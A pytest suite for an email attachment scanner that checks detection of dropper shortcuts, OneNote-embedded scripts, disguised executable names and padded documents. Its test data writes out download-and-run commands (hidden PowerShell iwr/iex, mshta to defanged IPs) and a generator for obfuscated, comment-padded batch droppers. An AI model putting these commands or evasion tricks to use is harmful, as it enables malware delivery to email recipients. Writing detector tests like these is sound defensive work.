"""Payload files: shortcuts, OneNote notebooks, programs and scripts, disguised names, padding."""

from __future__ import annotations

import hashlib
import io
import random
import struct
import time
from pathlib import Path

import pytest
from cases import limits, with_attachment
from cases_payloads import CMD, OCTET, benign_lnk, dropper_lnk, encoded_name
from conftest import corpus_dir
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from mailcheck import containers
from mailcheck.analyzers import executables, onenote, padding, payloads, shortcut
from mailcheck.analyzers.interface import AttachmentContext, Hit
from mailcheck.api import scan_bytes
from mailcheck.catalog import load
from mailcheck.config import DEFAULT_CONFIG
from mailcheck.containers import OPENERS, OpenRequest
from mailcheck.engine import Engine
from mailcheck.extract import Item
from mailcheck.limits import DEFAULT, Budget, Limits
from mailcheck.model import Finding, ScanResult
from mailcheck.sniff import sniff
from testkit.payloads import (
    BATCH,
    FILE_DATA_HEADER,
    HTA,
    JSCRIPT,
    NOTE_ABOUT_POWERSHELL,
    ONE_SECTION_GUID,
    PNG_1PX,
    build_cab,
    build_iso,
    build_lnk,
    build_one,
    build_pe_stub,
)

# Warnings are how LnkParse3 reports damaged input; production code silences them per module.
pytestmark = pytest.mark.filterwarnings("ignore::UserWarning:LnkParse3")
JA = "お世話になっております。\r\nノートを送付いたします。ご確認ください。\r\n"
EN = "Hello,\r\nplease find the notes attached.\r\n"
ENGINE = Engine(cache=False)  # never started: these analyzers run in-process
STRELKA = ("office", "strelka_fixtures", "src", "python", "strelka", "tests", "fixtures")


def ids(result: ScanResult) -> set[str]:
    return {f.id for f in result.findings}


def finding(result: ScanResult, finding_id: str) -> Finding:
    return next(f for f in result.findings if f.id == finding_id)


def context(
    data: bytes, filename: str = "file", role: str = "attachment", lim: Limits = DEFAULT
) -> AttachmentContext:
    item = Item(
        path=f"2/{filename}",
        filename=filename,
        declared_type="",
        sniffed=sniff(data),
        data=data,
        sha256=hashlib.sha256(data).hexdigest(),
        depth=0,
        role=role,
    )
    return AttachmentContext(item=item, config=DEFAULT_CONFIG, limits=lim, engine=ENGINE)


def facts(hit: Hit) -> dict[str, str]:
    return dict(hit.evidence[0].facts)


# --- shortcuts -------------------------------------------------------------------------------


def test_shortcut_fixture_reads_back() -> None:
    read = shortcut.read_shortcut(dropper_lnk() + b"rem appended script\r\n")
    assert read.parsed
    assert read.target == CMD
    assert "findstr" in read.arguments and read.arguments.startswith(" " * 260)
    assert read.icon.endswith("shell32.dll")
    assert read.show_command == 7
    assert read.appended_bytes == len(b"rem appended script\r\n")


def test_dropper_shortcut_is_malicious_with_its_command_as_evidence() -> None:
    result = scan_bytes(with_attachment(dropper_lnk(), "invoice.lnk", OCTET))
    hit = finding(result, "attachment.lnk")
    assert hit.severity == "critical"
    assert hit.evidence[0].location == "attachment 2/invoice.lnk"
    found = hit.facts()
    assert found["target"] == CMD
    assert found["programs"] == "cmd.exe, findstr.exe, cscript.exe"
    assert found["scripts"] == "x.vbs"
    assert found["padded"] == "yes"
    assert found["window"] == "minimized"
    assert "[260 blank characters]" in found["arguments"]
    assert "attachment.lnk_shortcut" not in ids(result)
    assert result.verdict.label == "malicious"


@pytest.mark.parametrize(
    ("target", "arguments"),
    [
        (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "-w hidden -c iex"),
        (r"C:\Windows\System32\mshta.exe", "hxxp://203.0.113.7/a.hta"),
        (r"C:\Windows\explorer.exe", r"\\203.0.113.7\share\run.js"),
        (r"C:\Windows\explorer.exe", " " * 2000 + "x"),
        (r"C:\Windows\System32\rundll32.exe", r"%TEMP%\a.dll,DllRegisterServer"),
        ("%COMSPEC%", "/c start x"),
    ],
)
def test_shortcuts_that_start_interpreters_or_scripts(target: str, arguments: str) -> None:
    hits = list(shortcut.shortcuts(context(build_lnk(target=target, arguments=arguments))))
    assert [h.id for h in hits] == ["attachment.lnk"]


def test_benign_shortcut_is_reported_but_not_malicious() -> None:
    result = scan_bytes(with_attachment(benign_lnk(), "report.lnk", OCTET))
    hit = finding(result, "attachment.lnk_shortcut")
    assert hit.evidence[0].location == "attachment 2/report.lnk"
    assert hit.facts()["target"] == r"C:\Users\Public\report.pdf"
    assert "attachment.lnk" not in ids(result)
    assert result.verdict.label == "clean"


def test_damaged_shortcut_is_still_reported_as_a_shortcut() -> None:
    data = build_lnk(target=CMD)[:0x4C] + struct.pack("<H", 0xFFFF)  # ID list cut short
    data = bytearray(data)
    data[0x14] = 0x01  # HasLinkTargetIDList only
    hits = list(shortcut.shortcuts(context(bytes(data))))
    assert [h.id for h in hits] == ["attachment.lnk_shortcut"]


def test_unparsable_shortcut_is_searched_as_raw_text() -> None:
    header = build_lnk(target=CMD)[:0x4C]
    data = bytearray(header + "powershell -enc AAAA".encode("utf-16-le"))
    data[0x14] = 0x01  # an ID list whose size points past the end
    read = shortcut.read_shortcut(bytes(data))
    assert not read.target
    hits = list(shortcut.shortcuts(context(bytes(data))))
    assert [h.id for h in hits] == ["attachment.lnk"]
    assert facts(hits[0])["programs"] == "powershell.exe"


def test_shortcut_as_archive_member_keeps_its_path() -> None:
    hits = list(shortcut.shortcuts(context(dropper_lnk(), "a.zip/invoice.lnk", role="member")))
    assert hits[0].evidence[0].location == "attachment 2/a.zip/invoice.lnk"


def test_hostile_shortcut_layouts_stay_fast() -> None:
    header = bytearray(build_lnk()[:0x4C])
    many_blocks = bytes(header) + struct.pack("<II", 8, 0xA0000099) * (1024 * 1024 // 8)
    header[0x14] = 0x01
    many_items = bytes(header) + struct.pack("<H", 0xFFFF) + b"\x03\x00\x31" * 21845
    header[0x14] = 0xA0  # IsUnicode | HasArguments
    long_arguments = bytes(header) + struct.pack("<H", 0xFFFF) + "A ".encode("utf-16-le") * 40000
    for data in (many_blocks, many_items, long_arguments):
        started = time.monotonic()
        list(shortcut.shortcuts(context(data)))
        assert time.monotonic() - started < 10.0  # generous hang guard


# --- OneNote ---------------------------------------------------------------------------------


def test_onenote_with_embedded_hta_is_malicious() -> None:
    result = scan_bytes(with_attachment(build_one(PNG_1PX, HTA), "notes.one", OCTET))
    hit = finding(result, "attachment.onenote_embedded")
    assert hit.evidence[0].location == "attachment 2/notes.one"
    found = hit.facts()
    assert found["type"] == "HTA"
    assert found["index"] == "2"
    assert found["size"] == str(len(HTA))
    assert found["head"].startswith("<html><head><hta:")
    assert found["sha256"] == hashlib.sha256(HTA).hexdigest()
    assert found["files"] == f"#2 HTA ({len(HTA)} B)"
    assert result.verdict.label == "malicious"


@pytest.mark.parametrize(
    ("payload", "label"),
    [
        (build_pe_stub(), "PE"),
        (benign_lnk(), "LNK"),
        (BATCH, "batch"),
        (JSCRIPT, "JScript"),
        (b"<html><body><script>location='x'</script></body></html>", "text/html with <script"),
        ("powershell -nop -enc AAAA".encode("utf-16"), "with powershell"),
    ],
)
def test_onenote_embedded_code(payload: bytes, label: str) -> None:
    hits = list(onenote.notebooks(context(build_one(payload), "notes.one")))
    assert [h.id for h in hits] == ["attachment.onenote_embedded"]
    assert label in facts(hits[0])["type"]


def test_onenote_with_only_pictures_is_clean() -> None:
    result = scan_bytes(with_attachment(build_one(PNG_1PX, PNG_1PX), "notes.one", OCTET))
    assert not {i for i in ids(result) if i.startswith("attachment.onenote")}
    assert result.verdict.label == "clean"


def test_onenote_with_a_document_is_suspicious() -> None:
    # Businesses rarely mail notebooks with files in them; OneNote was Emotet's 2023 carrier.
    result = scan_bytes(with_attachment(build_one(b"%PDF-1.4\n%%EOF\n"), "notes.one", OCTET))
    assert finding(result, "attachment.onenote_files").facts()["type"] == "application/pdf"
    assert "attachment.onenote_embedded" not in ids(result)
    assert result.verdict.label == "suspicious"


def obfuscated_batch(size: int = 340_000, seed: int = 3) -> bytes:
    """A batch dropper in the shape of the 2023 OneNote wave: no "@echo off", a head of
    "::" comment lines of random words, `set` fragments and a command spliced from them."""
    chooser = random.Random(seed)
    words = ["alpha", "kappa", "notice", "serial", "window", "ledger", "vortex", "quartz"]

    def comment() -> str:
        return ":: " + " ".join(chooser.choice(words) for _ in range(8)) + "\r\n"

    lines = [comment() for _ in range(200)]  # far more than the 8 KB a sniffer reads first
    fragments = {"aq": "pow", "zr": "ersh", "kl": "ell", "mx": " -w hidden -c iwr"}
    for name, value in fragments.items():
        lines.append(f"set {name}={value}\r\n")
        lines.extend(comment() for _ in range(2))
    lines.append("%aq%%zr%%kl%%mx% hxxp://198.51.100.7/a.dat -o %temp%\\a.exe\r\n")
    body = "".join(lines)
    while len(body) < size:
        body += comment()
    return body.encode()


def test_onenote_with_an_obfuscated_batch_file_is_malicious() -> None:
    script = obfuscated_batch()
    assert b"@echo" not in script.lower() and len(script) >= 340_000
    result = scan_bytes(with_attachment(build_one(PNG_1PX, script), "notes.one", OCTET))
    hit = finding(result, "attachment.onenote_embedded")
    assert hit.facts()["type"] == "batch"
    assert result.verdict.label == "malicious"


def test_a_script_padded_with_prose_is_found_by_its_end() -> None:
    prose = ("This paragraph is ordinary text about the quarterly report. " * 20 + "\n") * 30
    script = prose.encode() + obfuscated_batch(2_000)
    assert len(prose) > 8192
    assert sniff(script).kind == "script"
    assert sniff(prose.encode()).kind == "text"


def test_utf16_script_without_a_byte_order_mark_is_read_as_text() -> None:
    script = (
        "$u = 'hxxp://198.51.100.7/a'\r\nInvoke-WebRequest $u -OutFile $env:TEMP\\a.exe\r\n"
        "Start-Process $env:TEMP\\a.exe\r\n"
    ).encode("utf-16-le")
    found = sniff(script)
    assert (found.kind, found.extensions[:1]) == ("script", (".ps1",))
    hits = list(onenote.notebooks(context(build_one(script), "notes.one")))
    assert [h.id for h in hits] == ["attachment.onenote_embedded"]


def test_a_head_of_a_million_comment_lines_is_skipped_quickly() -> None:
    padded = b":: x\r\n" * 1_000_000 + b"set a=pow\r\nset b=ershell\r\nset c=-c x\r\n%a%%b%%c%\r\n"
    started = time.monotonic()
    found = sniff(padded)
    assert time.monotonic() - started < 5.0  # generous hang guard
    assert found.kind == "script" and found.extensions[0] == ".bat"  # the code at the end


@pytest.mark.parametrize(
    "text",
    [
        "::1 localhost\n::1 ip6-localhost\n127.0.0.1 localhost\n",  # a hosts file
        "Set the PATH to %JAVA_HOME%\\bin before you start.\nSee %APPDATA% for logs.\n",
        "std::string name;\nstd::vector<int> v;\nstd::map<int, int> m;\n",
    ],
)
def test_prose_with_batch_like_lines_stays_text(text: str) -> None:
    assert sniff(text.encode()).kind == "text"


def test_onenote_object_cut_short_is_classified_from_what_is_there() -> None:
    data = build_one(HTA)[: 1024 + 36 + 60]
    hits = list(onenote.notebooks(context(data, "notes.one")))
    assert [h.id for h in hits] == ["attachment.onenote_embedded"]
    assert facts(hits[0])["sha256"] == "-"


def test_onenote_object_count_is_bounded() -> None:
    data = ONE_SECTION_GUID + (FILE_DATA_HEADER + bytes(20)) * 50_000
    started = time.monotonic()
    files, more = onenote.embedded_files(data, limits(max_archive_members=100))
    assert len(files) == 100 and more
    assert time.monotonic() - started < 10.0  # generous hang guard


@pytest.mark.parametrize("compression", ["mszip", "none"])
def test_onenote_package_is_unpacked(compression: str) -> None:
    section = build_one(PNG_1PX, BATCH, bytes(70_000))  # spans several MSZIP blocks
    package = build_cab([("a.one", section), ("Open Notebook.onetoc2", b"toc")], compression)
    result = scan_bytes(with_attachment(package, "nb.onepkg", OCTET))
    embedded = finding(result, "attachment.onenote_embedded")
    assert embedded.facts()["type"] == "batch"
    # The package is opened as an archive: the section is a member, named where it sits.
    assert embedded.evidence[0].location == "attachment 2/nb.onepkg/a.one"


@pytest.mark.parametrize("text", [JA, EN], ids=["ja", "en"])
def test_onenote_package_with_a_script_is_malicious_and_its_twin_is_not(text: str) -> None:
    bad = build_cab([("Notes.one", build_one(PNG_1PX, HTA)), ("Open Notebook.onetoc2", b"t")])
    good = build_cab([("Notes.one", build_one(PNG_1PX)), ("Open Notebook.onetoc2", b"t")])
    attack = scan_bytes(with_attachment(bad, "nb.onepkg", OCTET, text=text))
    twin = scan_bytes(with_attachment(good, "nb.onepkg", OCTET, text=text))
    embedded = finding(attack, "attachment.onenote_embedded")
    assert embedded.evidence[0].location == "attachment 2/nb.onepkg/Notes.one"
    assert embedded.facts()["type"] == "HTA"
    assert attack.verdict.label == "malicious"
    assert twin.verdict.label == "clean" and "attachment.onenote_embedded" not in ids(twin)


def test_onenote_package_that_cannot_be_unpacked_is_named_unchecked() -> None:
    package = build_cab([("a.one", build_one(HTA))], "lzx")  # labelled LZX, not LZX inside
    result = scan_bytes(with_attachment(package, "nb.onepkg", OCTET))
    unchecked = finding(result, "attachment.onenote_unchecked")
    assert unchecked.facts()["method"] == "LZX" and unchecked.facts()["sections"] == "a.one"
    assert unchecked.evidence[0].location == "attachment 2/nb.onepkg"
    assert result.verdict.incomplete or result.verdict.label != "clean"


def test_onenote_package_members_are_bounded() -> None:
    package = build_cab([("a.one", random.Random(1).randbytes(300_000))], "mszip")
    result = scan_bytes(
        with_attachment(package, "nb.onepkg", OCTET), limits=limits(max_member_bytes=100_000)
    )
    assert "limit.max_member_bytes" in ids(result)


# --- executables and disguised names ---------------------------------------------------------


def test_pe_named_as_pdf_is_an_executable_with_a_double_extension() -> None:
    result = scan_bytes(with_attachment(build_pe_stub(), "invoice.pdf.exe", OCTET))
    exe = finding(result, "attachment.executable")
    assert exe.evidence[0].location == "attachment 2/invoice.pdf.exe"
    assert exe.facts()["kind"] == "PE"
    double = finding(result, "attachment.double_extension")
    assert double.evidence[0].location == "attachment 2/invoice.pdf.exe"
    assert double.facts()["shown_name"] == "invoice.pdf"
    assert double.facts()["real_extension"] == ".exe"
    assert result.verdict.label == "malicious"


def test_script_by_name_and_content() -> None:
    result = scan_bytes(with_attachment(JSCRIPT, "invoice.js", "text/plain"))
    assert finding(result, "attachment.executable").facts()["kind"] == ".js (JScript)"
    assert result.verdict.label == "malicious"


def test_text_mentioning_powershell_is_not_executable() -> None:
    result = scan_bytes(with_attachment(NOTE_ABOUT_POWERSHELL, "notes.txt", "text/plain"))
    assert not ids(result) & {"attachment.executable", "attachment.double_extension"}
    assert result.verdict.label == "clean"


def test_rlo_name_shows_what_the_reader_sees() -> None:
    name = "invoice\u202efdp.exe"
    result = scan_bytes(with_attachment(build_pe_stub(), encoded_name(name), OCTET))
    found = finding(result, "attachment.double_extension").facts()
    assert found["shown_name"] == "invoiceexe.pdf"
    assert found["filename"] == "invoice[U+202E]fdp.exe"
    assert found["real_extension"] == ".exe"


@pytest.mark.parametrize(
    ("filename", "trick"),
    [
        ("invoice.pdf.exe", "double"),
        ("scan.jpg .scr", "double"),
        ("document.docx   .exe", "double"),
        ("report.pdf.lnk", "double"),
        ("Invoice.PDF.JS", "double"),
        ("Rechnung          .exe", "padded"),
        ("photo\u202egnp.js", "rlo"),
        ("", ""),
        ("setup.x64.exe", ""),
        ("jquery.min.js", ""),
        ("archive.tar.gz", ""),
        ("report.2022.pdf", ""),
        ("invoice.pdf", ""),
        ("notes.txt.bak", ""),
    ],
)
def test_disguised_names(filename: str, trick: str) -> None:
    assert executables.disguise(filename) == trick


@pytest.mark.parametrize(
    ("filename", "data", "kind"),
    [
        ("tool.exe", build_pe_stub(), "PE"),
        ("photo.jpg", build_pe_stub(), "PE"),  # the bytes are a program, whatever the name
        ("run.VBS", b'MsgBox "hi"\r\n', ".vbs"),
        ("run.cmd", BATCH, ".cmd (batch)"),
        ("page.hta", HTA, ".hta (HTA)"),
        ("payload", BATCH, "batch"),  # no extension: the content decides
        ("setup.msi", bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600), ".msi (Windows Installer)"),
        ("notes.txt", BATCH, ""),  # opens in Notepad
        ("invoice.exe", b"%PDF-1.4\n%%EOF\n", ""),  # a renamed PDF cannot run
        ("report.pdf", b"%PDF-1.4\n%%EOF\n", ""),
        ("empty.js", b"", ""),
    ],
)
def test_executable_decisions(filename: str, data: bytes, kind: str) -> None:
    hits = list(executables.executables(context(data, filename)))
    assert [facts(h)["kind"] for h in hits] == ([kind] if kind else [])


def test_executable_inside_an_archive_keeps_its_member_path() -> None:
    ctx = context(build_pe_stub(), "invoice.zip/invoice.pdf.exe", role="member")
    hits = list(executables.executables(ctx)) + list(executables.double_extensions(ctx))
    assert {h.id for h in hits} == {"attachment.executable", "attachment.double_extension"}
    assert {h.evidence[0].location for h in hits} == {"attachment 2/invoice.zip/invoice.pdf.exe"}


@pytest.mark.skipif("zip" not in containers.OPENERS, reason="zip opener not registered yet")
def test_executable_in_a_zip_end_to_end() -> None:
    import io
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("invoice.pdf.exe", build_pe_stub())
    result = scan_bytes(with_attachment(buffer.getvalue(), "invoice.zip", "application/zip"))
    hit = finding(result, "attachment.executable")
    assert hit.evidence[0].location == "attachment 2/invoice.zip/invoice.pdf.exe"
    assert result.verdict.label == "malicious"


@pytest.mark.skipif("iso" not in containers.OPENERS, reason="disk image opener not registered")
def test_shortcut_and_script_in_an_iso_end_to_end() -> None:
    image = build_iso([("invoice.pdf.lnk", dropper_lnk()), ("x.vbs", b'MsgBox "hi"\r\n')])
    result = scan_bytes(with_attachment(image, "invoice.iso", OCTET))
    located = {(f.id, e.location) for f in result.findings for e in f.evidence}
    assert ("attachment.lnk", "attachment 2/invoice.iso/invoice.pdf.lnk") in located
    assert ("attachment.double_extension", "attachment 2/invoice.iso/invoice.pdf.lnk") in located
    assert ("attachment.executable", "attachment 2/invoice.iso/x.vbs") in located
    assert result.verdict.label == "malicious"


# --- padding ---------------------------------------------------------------------------------

NOISE = random.Random(20220301).randbytes(6 * 1024 * 1024)
PADDED_DOC = bytes.fromhex("d0cf11e0a1b11ae1") + NOISE[:600_000] + bytes(5 * 1024 * 1024)


def test_padded_document_is_inflated() -> None:
    hits = list(padding.padded(context(PADDED_DOC, "invoice.doc")))
    assert [h.id for h in hits] == ["attachment.inflated"]
    found = facts(hits[0])
    assert found["member"] == "invoice.doc"
    assert found["inflated_size"] == str(len(PADDED_DOC))
    assert int(found["claimed_size"]) < 700_000
    assert found["padding_share"] == "90%"
    assert found["ratio"] == str(len(PADDED_DOC) // int(found["claimed_size"]))
    assert hits[0].evidence[0].location == "attachment 2/invoice.doc"


@pytest.mark.parametrize(
    ("data", "filename"),
    [
        (NOISE[: 5 * 1024 * 1024], "big.doc"),  # big but not padded
        (bytes.fromhex("d0cf11e0a1b11ae1") + bytes(1024 * 1024), "small.doc"),  # too small
        (b"BM" + bytes(8) + struct.pack("<II", 54, 40) + bytes(5 * 1024 * 1024), "a.bmp"),
    ],
)
def test_not_padded(data: bytes, filename: str) -> None:
    assert list(padding.padded(context(data, filename))) == []


def test_padding_check_is_cheap_on_the_largest_member() -> None:
    data = NOISE[:1024] + bytes(64 * 1024 * 1024)
    started = time.monotonic()
    assert list(padding.padded(context(data, "big.exe")))
    assert time.monotonic() - started < 10.0  # generous hang guard


def test_padded_document_end_to_end() -> None:
    result = scan_bytes(with_attachment(PADDED_DOC, "invoice.doc", "application/msword"))
    hit = finding(result, "attachment.inflated")
    assert hit.evidence[0].location == "attachment 2/invoice.doc"
    texts = load().texts("attachment.inflated", "en", hit.facts())
    assert f"{len(PADDED_DOC)} bytes, 9 times" in texts.explanation
    assert result.verdict.label == "malicious"


# --- hostile input ---------------------------------------------------------------------------

LNK_HEADER = build_lnk()[:0x4C]


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=3000), st.sampled_from([b"", LNK_HEADER, LNK_HEADER[:0x14]]))
def test_random_shortcuts_never_raise(tail: bytes, head: bytes) -> None:
    hits = list(shortcut.shortcuts(context(head + tail, "x.lnk")))
    assert [h.id for h in hits] in (["attachment.lnk"], ["attachment.lnk_shortcut"])


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.lists(
        st.one_of(
            st.binary(max_size=300),
            st.just(FILE_DATA_HEADER),
            st.integers(0, (1 << 64) - 1).map(lambda n: n.to_bytes(8, "little")),
            st.just(b"MSCF\x00\x00\x00\x00"),
        ),
        max_size=12,
    )
)
def test_random_onenote_never_raises(parts: list[bytes]) -> None:
    data = b"".join(parts)
    for prefix in (ONE_SECTION_GUID, b""):
        list(onenote.notebooks(context(prefix + data, "x.one")))
    request = OpenRequest(
        data=b"MSCF\x00\x00\x00\x00" + data,
        kind="onenote",
        path="2/x.onepkg",
        passwords=(),
        budget=Budget(DEFAULT),
        depth=0,
    )
    OPENERS["onenote"](request)


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=80), st.binary(max_size=200))
def test_random_names_never_raise(name: str, data: bytes) -> None:
    ctx = context(data, name)
    list(executables.executables(ctx))
    list(executables.double_extensions(ctx))


# --- real third-party material ---------------------------------------------------------------


def _corpus_hits(path: Path) -> list[str]:
    ctx = context(path.read_bytes(), path.name)
    out: list[str] = []
    for analyzer in payloads.ANALYZERS:
        if analyzer.kinds and ctx.item.sniffed.kind not in analyzer.kinds:
            continue
        out.extend(hit.id for hit in analyzer.run(ctx))
    return out


def test_lnkparse3_shortcuts_parse_without_errors() -> None:
    folder = corpus_dir("lnk")
    files = sorted(p for p in folder.rglob("*") if p.is_file() and p.suffix == ".lnk")
    assert len(files) >= 30
    results = {p.name: _corpus_hits(p) for p in files}
    # Every file sniffed as a shortcut gets exactly one shortcut finding.
    for name, found in results.items():
        assert len([i for i in found if i.startswith("attachment.lnk")]) <= 1, name
    # The collection holds real droppers: cmd.exe running .vbs files, padded arguments.
    assert "attachment.lnk" in results["unknown_block.lnk"]
    assert "attachment.lnk" in results["padded_cli_arguments.lnk"]
    assert "attachment.lnk_shortcut" in results["microsoft_example.lnk"]


def test_strelka_onenote_and_shortcut_fixtures() -> None:
    folder = corpus_dir(*STRELKA)
    one = _corpus_hits(folder / "test.one")
    assert one == ["attachment.onenote_files"]  # a .docx and a picture, nothing that runs
    # An LZX package, unpacked by libarchive: one section embeds a program, one a .docx.
    package = (folder / "test.onepkg").read_bytes()
    result = scan_bytes(with_attachment(package, "test.onepkg", OCTET))
    assert [e.location for e in finding(result, "attachment.onenote_embedded").evidence] == [
        "attachment 2/test.onepkg/exe.one"
    ]
    assert finding(result, "attachment.onenote_embedded").facts()["type"] == "PE"
    assert "attachment 2/test.onepkg/docx.one" in {
        e.location for e in finding(result, "attachment.onenote_files").evidence
    }
    assert "attachment.onenote_unchecked" not in ids(result)
    assert _corpus_hits(folder / "test.lnk") == ["attachment.lnk_shortcut"]  # calc.exe
    for name in ("test.exe", "test_upx.exe", "test_xor.exe", "test.bat", "test.msi"):
        assert "attachment.executable" in _corpus_hits(folder / name), name


def test_padded_word_document_that_sniffs_as_doc_is_inflated() -> None:
    # A real OLE file with a WordDocument stream: the kind has an opener (for encrypted
    # copies), which must not hide the padding of a plain document.
    from extract_msg.ole_writer import OleWriter

    writer = OleWriter()
    writer.addEntry("WordDocument", data=NOISE[:600_000])
    buffer = io.BytesIO()
    writer.write(buffer)
    doc = buffer.getvalue() + bytes(8 * 1024 * 1024)
    result = scan_bytes(with_attachment(doc, "invoice.doc", "application/msword"))
    assert next(a for a in result.attachments if a.filename == "invoice.doc").sniffed_type == (
        "application/msword"
    )
    assert finding(result, "attachment.inflated").evidence[0].location == "attachment 2/invoice.doc"
    assert result.verdict.label == "malicious"


def test_a_batch_file_behind_one_huge_comment_line_is_found() -> None:
    # The OneNote wave's other shape: a single 340 KB "::" line, then the code; also with
    # a tail of padding after the code, so that neither the head nor the end shows it.
    code = b"@echo off\r\nset a=pow\r\nset b=ershell\r\n"
    code += b"%a%%b% -w hidden -c iwr x -o %temp%\\a.exe\r\n"
    head = b"::" + b"Qz7" * 113_000 + b"\r\n"
    tail = b":: padding after the code\r\n" * 2_000
    for script in (head + code, head + code + tail):
        assert sniff(script).extensions[:1] == (".bat",)
        result = scan_bytes(with_attachment(build_one(PNG_1PX, script), "notes.one", OCTET))
        assert finding(result, "attachment.onenote_embedded").facts()["type"] == "batch"
        assert result.verdict.label == "malicious"
